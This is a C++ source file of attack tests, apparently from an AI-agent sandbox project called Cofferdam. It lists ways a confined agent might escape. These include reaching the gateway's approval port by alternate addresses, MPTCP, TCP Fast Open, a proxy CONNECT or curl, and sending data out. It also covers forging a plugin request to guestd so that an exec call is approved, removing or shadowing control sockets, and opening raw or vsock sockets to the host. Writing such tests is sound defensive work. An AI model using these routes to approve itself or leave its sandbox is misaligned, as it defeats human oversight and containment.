// SPDX-FileCopyrightText: Cofferdam contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Ways to the gateway, to guestd and out, past the redirector: an agent that reaches the gateway's port approves itself.

#include "tests/attack/programs/Attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

namespace attack {
namespace {

constexpr auto kPluginSocket = "/run/cofferdam/plugin.sock";
constexpr std::string_view kApproval = "GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"; // the stand-in echoes what else it gets

int newSocket(int family, int type, int protocol = 0)
{
    const auto fd = static_cast<int>(must("socket", ::socket(family, type | SOCK_CLOEXEC, protocol)));
    const timeval patience{3, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    return fd;
}

sockaddr_in address(const char *host, unsigned short port)
{
    sockaddr_in result{};
    result.sin_family = AF_INET;
    result.sin_port = htons(port);
    ::inet_pton(AF_INET, host, &result.sin_addr);
    return result;
}

sockaddr_in6 address6(const char *host, unsigned short port)
{
    sockaddr_in6 result{};
    result.sin6_family = AF_INET6;
    result.sin6_port = htons(port);
    ::inet_pton(AF_INET6, host, &result.sin6_addr);
    return result;
}

template<typename Address>
const sockaddr *plain(const Address &address)
{
    return reinterpret_cast<const sockaddr *>(&address);
}

void expectAnswer(int fd)
{
    char text[64] = {};
    must("an answer of the gateway", ::recv(fd, text, sizeof text - 1, 0));
    if (std::strstr(text, "200"))
        effect("the gateway answered");
}

void approve(int fd)
{
    must("send", ::send(fd, kApproval.data(), kApproval.size(), MSG_NOSIGNAL));
    expectAnswer(fd);
}

template<typename Address>
void approveAt(const Address &address, int family, int protocol = 0)
{
    const auto fd = newSocket(family, SOCK_STREAM, protocol);
    must("connect to the gateway", ::connect(fd, plain(address), sizeof address));
    approve(fd);
}

void gatewayPort()
{
    approveAt(address("127.0.0.1", kGatewayPort), AF_INET);
}

void gatewayByAny()
{
    approveAt(address("0.0.0.0", kGatewayPort), AF_INET);
}

void gatewayByMapped()
{
    approveAt(address6("::ffff:127.0.0.1", kGatewayPort), AF_INET6);
}

void gatewayByMptcp()
{
    approveAt(address("127.0.0.1", kGatewayPort), AF_INET, 262 /* IPPROTO_MPTCP */);
}

/// Connects by sending: no connect() is called.
void gatewayByFastOpen()
{
    const auto fd = newSocket(AF_INET, SOCK_STREAM);
    const auto to = address("127.0.0.1", kGatewayPort);
    must("sendto with MSG_FASTOPEN", ::sendto(fd, kApproval.data(), kApproval.size(), MSG_FASTOPEN | MSG_NOSIGNAL, plain(to), sizeof to));
    expectAnswer(fd);
}

/// By a service of guestd for the agent: the proxy must not lead back in.
void gatewayByProxy()
{
    const auto fd = newSocket(AF_INET, SOCK_STREAM);
    const auto to = address("127.0.0.1", 3128);
    must("connect to the proxy", ::connect(fd, plain(to), sizeof to));
    constexpr std::string_view kRequest = "CONNECT 127.0.0.1:18789 HTTP/1.1\r\nHost: 127.0.0.1:18789\r\n\r\n";
    must("send", ::send(fd, kRequest.data(), kRequest.size(), MSG_NOSIGNAL));
    char text[64] = {};
    must("an answer of the proxy", ::recv(fd, text, sizeof text - 1, 0));
    if (std::strncmp(text, "HTTP/1.1 200", 12) == 0)
        effect("the proxy connects to the gateway");
    else
        note("STOPPED the proxy says %.12s", text);
}

void outside()
{
    const auto fd = newSocket(AF_INET, SOCK_STREAM);
    const auto to = address("192.0.2.1", 443);
    must("connect outside", ::connect(fd, plain(to), sizeof to));
    effect("a connection outside");
}

void datagramToLoopback()
{
    const auto receiver = newSocket(AF_INET, SOCK_DGRAM); // as a leak to another process; nothing listens at guestd's ports
    const auto to = address("127.0.0.1", 53);
    must("sendto", ::sendto(receiver, "leak", 4, 0, plain(to), sizeof to));
    effect("a datagram to the loopback interface");
}

void datagramBySendmsg()
{
    const auto fd = newSocket(AF_INET6, SOCK_DGRAM);
    auto to = address6("::1", 53);
    char text[] = "leak";
    iovec data{text, 4};
    msghdr message{};
    message.msg_name = &to;
    message.msg_namelen = sizeof to;
    message.msg_iov = &data;
    message.msg_iovlen = 1;
    must("sendmsg", ::sendmsg(fd, &message, 0));
    effect("a datagram to the loopback interface");
}

void datagramOutside()
{
    const auto fd = newSocket(AF_INET, SOCK_DGRAM);
    const auto to = address("192.0.2.1", 53);
    must("sendto outside", ::sendto(fd, "leak", 4, 0, plain(to), sizeof to));
    effect("a datagram outside");
}

template<typename Address>
void bindAt(const Address &address, int family)
{
    const auto fd = newSocket(family, SOCK_STREAM);
    const int yes = 1;
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &yes, sizeof yes);
    must("bind", ::bind(fd, plain(address), sizeof address));
    must("listen", ::listen(fd, 1));
    effect("a guarded port is taken");
}

void bindGateway6()
{
    bindAt(address6("::1", kGatewayPort), AF_INET6);
}

void bindGatewayElsewhere()
{
    bindAt(address("127.0.0.2", kGatewayPort), AF_INET);
}

void bindProxyElsewhere()
{
    bindAt(address("127.0.0.2", 3128), AF_INET);
}

int pluginSocket()
{
    const auto fd = newSocket(AF_UNIX, SOCK_STREAM);
    sockaddr_un to{};
    to.sun_family = AF_UNIX;
    std::strcpy(to.sun_path, kPluginSocket);
    must("connect to the plugin's socket", ::connect(fd, plain(to), sizeof to));
    return fd;
}

std::string askGuestd(const std::string &line)
{
    const auto fd = pluginSocket();
    const auto bytes = line + "\n";
    must("write to guestd", ::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL));
    char text[512] = {};
    const auto size = must("an answer of guestd", ::recv(fd, text, sizeof text - 1, 0));
    if (size == 0) {
        errno = ECONNRESET;
        stopped("an answer of guestd");
    }
    return text;
}

/// A question in the gateway's name: its allow would be a ticket.
void poseAsPlugin()
{
    const auto answer = askGuestd(R"({"type":"ask","tool":"exec","paramsJson":"{\"command\":\"echo planted\"}","toolCallId":"planted","runId":"planted"})");
    if (answer.find("\"allow\":true") != std::string::npos)
        effect("guestd took a question from a tool");
    else
        note("STOPPED guestd says %s", answer.c_str());
}

void poseAsHome()
{
    if (askGuestd(R"({"type":"home","version":"evil"})").find("\"ok\":true") != std::string::npos)
        effect("guestd believes that the plugin is at home");
}

/// Tells that a call has ended which goes on: what it may do must not end, or begin, by a tool's word.
void endAnothersCall()
{
    if (askGuestd(R"({"type":"ended","toolCallId":"call-a1","runId":"","tool":"exec","ok":true})").find("\"ok\":true") != std::string::npos)
        effect("guestd believes a tool about a call");
}

void replacePluginSocket()
{
    must("unlink the plugin's socket", ::unlink(kPluginSocket));
    effect("the plugin's socket is removed");
}

/// A stand-in for guestd: whoever looks for it by name would talk to us.
void bindBesideGuestd()
{
    const auto fd = newSocket(AF_UNIX, SOCK_STREAM);
    sockaddr_un at{};
    at.sun_family = AF_UNIX;
    std::strcpy(at.sun_path, "/run/cofferdam/guestd.sock");
    must("bind in guestd's folder", ::bind(fd, plain(at), sizeof at));
    effect("a socket in guestd's folder");
}

template<int family, int type, int protocol>
void otherSocket()
{
    newSocket(family, type, protocol);
    effect("a socket of family %d", family);
}

void cryptoSocket()
{
    const auto fd = newSocket(AF_ALG, SOCK_SEQPACKET);
    sockaddr_alg at{};
    at.salg_family = AF_ALG;
    std::strcpy(reinterpret_cast<char *>(at.salg_type), "hash");
    std::strcpy(reinterpret_cast<char *>(at.salg_name), "sha256");
    must("bind AF_ALG", ::bind(fd, plain(at), sizeof at));
    effect("the kernel's crypto interface");
}

void hostByVsock()
{
    const auto fd = newSocket(AF_VSOCK, SOCK_STREAM);
    sockaddr_vm to{};
    to.svm_family = AF_VSOCK;
    to.svm_cid = VMADDR_CID_HOST;
    to.svm_port = 1024;
    must("connect to the host", ::connect(fd, plain(to), sizeof to));
    effect("a connection to the host");
}

} // namespace

std::vector<Attack> socketAttacks()
{
    return {
        {"gateway-port", gatewayPort},
        {"gateway-port-by-any", gatewayByAny},
        {"gateway-port-by-mapped", gatewayByMapped},
        {"gateway-port-by-mptcp", gatewayByMptcp},
        {"gateway-port-by-fastopen", gatewayByFastOpen},
        {.name = "gateway-port-by-curl",
         .launch = {"/usr/bin/sh", std::string(kFolder) + "curl.sh"},
         .besides = {{"curl", "-s", "-m", "5", "--noproxy", "*", "http://127.0.0.1:18789/readyz"}}},
        {.name = "gateway-port-by-proxy", .run = gatewayByProxy, .alwaysHeld = true},
        {.name = "socket-outside", .run = outside, .alwaysHeld = true},
        {"socket-udp", datagramToLoopback},
        {"socket-udp-sendmsg", datagramBySendmsg},
        {.name = "socket-udp-outside", .run = datagramOutside, .alwaysHeld = true},
        {"socket-bind-gateway-6", bindGateway6},
        {"socket-bind-gateway", bindGatewayElsewhere},
        {"socket-bind-proxy", bindProxyElsewhere},
        {"plugin-pose", poseAsPlugin},
        {"plugin-home", poseAsHome},
        {"plugin-ended", endAnothersCall},
        {.name = "plugin-socket-replaced", .run = replacePluginSocket, .alwaysHeld = true},
        {.name = "plugin-socket-beside", .run = bindBesideGuestd, .alwaysHeld = true},
        {.name = "socket-packet", .run = otherSocket<AF_PACKET, SOCK_RAW, 0x0300>, .alwaysHeld = true},
        {.name = "socket-raw", .run = otherSocket<AF_INET, SOCK_RAW, IPPROTO_TCP>, .alwaysHeld = true},
        {.name = "socket-ping", .run = otherSocket<AF_INET, SOCK_DGRAM, IPPROTO_ICMP>, .alwaysHeld = true},
        {.name = "socket-vsock", .run = hostByVsock, .alwaysHeld = true},
        {.name = "socket-alg", .run = cryptoSocket, .alwaysHeld = true},
    };
}

} // namespace attack
